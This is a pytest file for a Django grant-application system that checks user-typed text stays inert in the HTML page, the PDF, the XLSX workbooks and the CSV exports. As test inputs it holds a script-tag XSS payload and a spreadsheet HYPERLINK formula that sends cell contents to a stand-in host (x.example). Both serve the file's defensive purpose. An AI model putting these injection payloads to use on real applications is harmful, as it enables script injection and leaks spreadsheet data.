"""What people type never becomes markup or a formula where others read it (#13): the page
escapes it, the PDF prints it as text, every workbook holds it as a text cell without control
characters, and the CSV file starts a formula-like cell with a quote (finsam/spreadsheets.py)."""

import csv
import io
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application
from budget import services as budget_services
from finsam.models import Member, Role, TargetGroup
from finsam.spreadsheets import csv_text
from tests.factories import ApplicationFactory, ChartLineFactory, InitiativeFactory, RoleFactory
from tests.helpers import edit_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example"&A3,"y")'
MARKUP = "<script>alert(1)</script>"
HOSTILE = f"{FORMULA} {MARKUP}\x0bslut"
STORED = f"{FORMULA} {MARKUP}\nslut"  # the vertical tab (Word's line break) became a new line
CONTROL = {chr(c) for c in range(32)} - {"\t", "\n", "\r"}


@pytest.fixture
def officer_client(association, login):
    return login(RoleFactory(association=association, kind=Role.Kind.OFFICER).user)


def downloaded(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def text_cells(content: bytes):
    """Every cell of every sheet that holds text, as openpyxl reads it back."""
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell


def assert_text_only(content: bytes, expected: str):
    cells = list(text_cells(content))
    assert any(expected in cell.value for cell in cells), expected
    for cell in cells:
        if cell.data_type == "f":  # the workbook's own sums and references, never typed text
            assert "HYPERLINK" not in cell.value, (cell.coordinate, cell.value)
            continue
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert not CONTROL & set(cell.value), (cell.coordinate, cell.value)


def free_text_fields(form) -> list[str]:
    """The form's fields a person types text into (not choices, dates, amounts or addresses)."""
    from django import forms

    return [
        name
        for name, field in form.fields.items()
        if type(field) is forms.CharField
        and not getattr(field, "choices", None)
        and (field.max_length or 1000) >= len(HOSTILE)
    ]


def test_every_free_text_field_of_an_application_stays_text_everywhere(
    association, officer_client, tmp_path
):
    application = ApplicationFactory(association=association)
    url = reverse("applications:edit", args=[application.pk])
    context = officer_client.get(url).context
    names = free_text_fields(context["form"])
    assert {"name", "lead_name", "purpose", "implementation"} <= set(names)
    rows = {
        "targets-0-text": HOSTILE,
        "targets-0-number": "10",
        "activities-0-activity": HOSTILE,
        "activities-0-start": f"{application.period_start:%Y-%m-%d}",
        "activities-0-end": f"{application.period_end:%Y-%m-%d}",
        "commitments-0-member": str(application.owner_id),
        "commitments-0-commitment": HOSTILE,
    }
    response = officer_client.post(url, edit_data(context, **dict.fromkeys(names, HOSTILE), **rows))
    assert response.status_code == 302, [
        (getattr(f, "prefix", ""), f.errors)
        for f in [response.context["form"]]
        + [
            r
            for part in response.context["sections"]
            if part["formset"]
            for r in part["formset"].forms
        ]
        if f.errors
    ] + [m.message for m in response.context["messages"]]
    application.refresh_from_db()
    for name in names:
        assert getattr(application, name) == STORED, name
    assert application.targets.get().text == STORED

    page = officer_client.get(reverse("applications:detail", args=[application.pk]))
    html = page.content.decode()
    assert MARKUP not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    pdf = tmp_path / "ansokan.pdf"
    pdf.write_bytes(
        downloaded(officer_client.get(reverse("applications:pdf", args=[application.pk])))
    )
    printed = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert FORMULA in printed
    assert MARKUP in printed

    export = downloaded(officer_client.get(reverse("applications:export_xlsx")))
    assert_text_only(export, FORMULA)


def test_names_stored_before_the_bounds_still_give_workbooks_of_text(association, officer_client):
    """Names with a control character or a formula already in the database (typed before the
    bounds): every workbook still opens, with the names as text."""
    officer = Role.objects.get(association=association, kind=Role.Kind.OFFICER).user
    member = Member.objects.filter(association=association).first()
    Member.objects.filter(pk=member.pk).update(name=HOSTILE)
    group = TargetGroup.objects.create(association=association, name=HOSTILE, position=9)
    application = ApplicationFactory(association=association, owner=member, name=HOSTILE)
    application.target_groups.add(group)
    ChartLineFactory(association=association, name=HOSTILE)
    budget = budget_services.budget_create(
        user=officer,
        association=association,
        period_start=application.period_start.replace(month=1, day=1),
        period_end=application.period_start.replace(month=12, day=31),
    )
    InitiativeFactory(association=association, owner=member, name=HOSTILE)

    for url in (
        reverse("applications:export_xlsx"),
        reverse("budget:report_xlsx", args=[budget.pk]),
        reverse("followup:export_xlsx") + "?year=2025",
        reverse("followup:yearly_return_xlsx") + "?year=2025",
    ):
        response = officer_client.get(url)
        assert response.status_code == 200, url
        assert_text_only(downloaded(response), FORMULA)

    response = officer_client.get(reverse("followup:yearly_return_csv") + "?year=2025")
    rows = list(csv.reader(io.StringIO(downloaded(response).decode("utf-8-sig")), delimiter=";"))
    names = [row[0] for row in rows[1:] if row and row[0] not in ("Summa", "")]
    assert names and all(name.startswith("'=") for name in names if "HYPERLINK" in name)
    assert not any(CONTROL & set(cell) for row in rows for cell in row)
    assert Application.objects.filter(name=HOSTILE).exists()  # nothing was rewritten


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+46 40 12 34 56", "'+46 40 12 34 56"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("Kontor\x0b2", "Kontor\n2"),
        ("Landskrona", "Landskrona"),
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(typed, written):
    assert csv_text(typed) == written
